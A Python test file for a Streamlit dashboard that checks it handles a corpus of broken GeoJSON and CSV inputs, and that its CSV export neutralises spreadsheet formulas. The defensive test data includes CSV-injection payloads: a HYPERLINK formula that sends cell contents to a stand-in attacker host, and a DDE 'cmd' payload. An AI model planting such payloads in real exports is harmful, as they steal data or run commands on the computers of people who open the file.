"""The dashboard on broken data: a banner that lists the problems, the valid records still shown.

Each case puts one file of the broken-input corpus (``tests/corpus``) in place
of ``stations.geojson`` or ``patrols.csv`` in a copy of the dashboard's sample
data, points the app at it with ``LAWREACH_DATA_DIR``, and checks: no
exception, an error banner, every problem listed, and exactly the valid records
(the manifest's survivors plus the untouched other file) in the counts, the
table and the map. The About page must survive the same data.

It also checks that exported CSVs neutralise spreadsheet formulas even for
text the loader would have rejected (defence in depth).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from lawreach.contract.load import load_dataset
from lawreach.contract.read import MAX_FILE_BYTES
from tests.conftest import REPO
from tests.sample_data import patrol_rows, station_features, write_sample
from tests.test_corpus import CORPUS, MANIFEST

APP = str(REPO / "app.py")
ABOUT_PAGE = "pages/1_About.py"
SAMPLE_STATIONS = len(station_features())
SAMPLE_PATROLS = len(patrol_rows())
CASES = {case["file"]: case for case in MANIFEST}
# A spread of the corpus: whole files unreadable, and single records broken in each file.
APP_CASES = [
    "not_json.geojson", "truncated.geojson", "deep_nesting.geojson", "single_feature.geojson",
    "duplicate_key.geojson", "javascript_url.geojson", "null_geometry.geojson",
    "swapped_lon_lat.geojson", "formula_hyperlink.geojson", "excel_renamed.csv",
    "utf16_unicode_text.csv", "semicolon_delimited.csv", "unbalanced_quote.csv",
    "extra_column.csv", "route_order_duplicate.csv",
]


def _merge_bureaus(target: Path) -> None:
    """The sample's bureaus plus the corpus's, so corpus records keep their valid bureaus."""
    rows: dict[str, dict[str, str]] = {}
    fields: list[str] = []
    for source in (target / "bureaus.csv", CORPUS / "bureaus.csv"):
        with source.open(encoding="utf-8", newline="") as handle:
            reader = csv.DictReader(handle)
            fields = fields or list(reader.fieldnames or [])
            for row in reader:
                rows.setdefault(row["id"], row)
    with (target / "bureaus.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows.values())


def broken_dir(base: Path, corpus_file: str) -> Path:
    target = write_sample(base / corpus_file.replace(".", "_"))
    _merge_bureaus(target)
    name = "stations.geojson" if corpus_file.endswith(".geojson") else "patrols.csv"
    shutil.copy(CORPUS / corpus_file, target / name)
    return target


def run_app(data_dir: Path, monkeypatch) -> AppTest:
    monkeypatch.setenv("LAWREACH_DATA_DIR", str(data_dir))
    st.cache_data.clear()
    at = AppTest.from_file(APP, default_timeout=60).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def metric(at: AppTest, label: str) -> str:
    return next(m.value for m in at.metric if m.label == label)


def problem_listing(at: AppTest) -> str:
    return "\n".join(c.value for c in at.code)


def assert_banner_and_valid_records(at: AppTest, data_dir: Path, expected_ids: set[str]) -> None:
    data = load_dataset(data_dir)
    assert set(data.records["id"]) == expected_ids  # the loader agrees with the manifest
    (banner,) = at.error
    assert f"{len(data.problems)} problem(s)" in banner.value
    assert f"the {len(expected_ids)} valid records are" in banner.value
    listing = problem_listing(at)
    for problem in data.problems[:300]:
        assert str(problem) in listing
    assert metric(at, "Records shown") == str(len(expected_ids))
    assert set(at.dataframe[0].value["id"]) == expected_ids
    records = data.records
    stations = set(records.loc[records["activity_type"] == "service_station", "id"])
    spec = json.loads(at.get("deck_gl_json_chart")[0].proto.json)
    on_map = {o["id"] for x in spec["layers"] if x["id"] == "stations" for o in x["data"]}
    assert on_map == stations


@pytest.mark.parametrize("corpus_file", APP_CASES)
def test_app_shows_banner_and_keeps_valid_records(corpus_file, tmp_path, monkeypatch):
    case = CASES[corpus_file]
    data_dir = broken_dir(tmp_path, corpus_file)
    at = run_app(data_dir, monkeypatch)
    if corpus_file.endswith(".geojson"):
        others = {p["id"] for p in patrol_rows()}
    else:
        others = {f["properties"]["id"] for f in station_features()}
    assert_banner_and_valid_records(at, data_dir, others | set(case["kept"].split()))
    assert f"[{case['rule']}]" in problem_listing(at)
    assert corpus_file.split(".")[-1] in problem_listing(at)


def test_app_survives_a_file_over_the_size_limit(tmp_path, monkeypatch):
    data_dir = write_sample(tmp_path / "huge")
    path = data_dir / "stations.geojson"
    features = json.dumps(station_features()[0])
    with path.open("w", encoding="utf-8") as handle:
        handle.write('{"type": "FeatureCollection", "features": [')
        handle.write(",".join([features] * (MAX_FILE_BYTES // len(features) + 10)))
        handle.write("]}")
    at = run_app(data_dir, monkeypatch)
    assert_banner_and_valid_records(at, data_dir, {p["id"] for p in patrol_rows()})
    assert "[file_read]" in problem_listing(at)


def test_app_with_nothing_valid_is_a_banner_not_a_blank_page(tmp_path, monkeypatch):
    data_dir = write_sample(tmp_path / "nothing")
    shutil.copy(CORPUS / "html_saved_page.geojson", data_dir / "stations.geojson")
    shutil.copy(CORPUS / "excel_renamed.csv", data_dir / "patrols.csv")
    at = run_app(data_dir, monkeypatch)
    assert_banner_and_valid_records(at, data_dir, set())
    banner = at.error[0].value
    assert "Could not read patrols\\.csv, stations\\.geojson" in banner  # whole files named
    assert at.title  # the page is still there: title, filters, an empty table
    at.switch_page(ABOUT_PAGE).run()
    assert not at.exception


def test_about_page_on_broken_data(tmp_path, monkeypatch):
    data_dir = broken_dir(tmp_path, "unbalanced_quote.csv")
    at = run_app(data_dir, monkeypatch)
    at.switch_page(ABOUT_PAGE).run()
    assert not at.exception
    assert any("Known gaps" in m.value for m in at.markdown)


# --- exported CSVs -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)", "\t=1+1", "\r=1+1"]


def test_exported_csv_neutralises_formulas_in_every_text_cell(tmp_path):
    """Even if a formula got past the loader (a future rule change), the CSV export
    must not hand a spreadsheet a cell it would run."""
    export_data = pytest.importorskip("lawreach.export.tabular")
    data_dir = write_sample(tmp_path / "formulas")
    records = load_dataset(data_dir).records.copy()
    text_columns = ["name", "name_zh", "name_pinyin", "partner_agency", "programme", "city",
                    "address", "notes", "coordinate_source"]
    for i, column in enumerate(text_columns):
        records[column] = FORMULAS[i % len(FORMULAS)]
    records["sources"] = [[dict(s, title=FORMULAS[0], publisher=FORMULAS[3]) for s in row]
                          for row in records["sources"]]
    records["history"] = [[{"date": None, "event": FORMULAS[1], "authority": FORMULAS[2]}]
                          for _ in range(len(records))]
    meta = export_data.ExportMeta.for_data(data_dir, sentence="=HYPERLINK(\"http://x\")")
    text = export_data.to_csv(records, meta).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(records) + 1
    header = rows[0]
    numeric = {header.index(c) for c in ("lon", "lat", "route_order", "source_count") if c in header}
    cells = [(header[j], cell) for row in rows[1:] for j, cell in enumerate(row) if j not in numeric]
    dangerous = [(col, cell) for col, cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # ...and the text is kept, not dropped: the apostrophe is the only change.
    names = [row[header.index("name")] for row in rows[1:]]
    assert set(names) == {"'" + FORMULAS[0]}
